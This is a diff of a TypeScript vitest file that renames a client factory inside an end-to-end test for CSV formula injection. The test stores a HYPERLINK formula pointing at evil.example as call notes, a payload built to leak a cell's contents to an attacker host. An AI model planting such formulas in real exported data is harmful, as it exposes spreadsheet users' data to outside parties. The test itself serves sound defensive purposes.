@@ -6,7 +6,7 @@ import { tmpdir } from "node:os";
 import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { clientOptionsFromSettings, createClient } from "../../src/client.ts";
+import { clientOptionsFromSettings, createInternalClient } from "../../src/client.ts";
 import { settingsSchema } from "../../src/core/config/schema.ts";
 import { humanLine } from "../../src/core/logging/logger.ts";
 import { type RunningEmulator, startEmulator } from "../../src/emulator/index.ts";
@@ -186,7 +186,7 @@ describe("CSV formula injection, end to end", () => {
       dataDir: path.join(d, ".cxo"),
     });
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const client = createClient(clientOptionsFromSettings(settings));
+    const client = createInternalClient(clientOptionsFromSettings(settings));
     await client.port.dispositions.setCallDisposition(call.id, {
       dispositionCodeId: "BUSY",
       notes: formula,
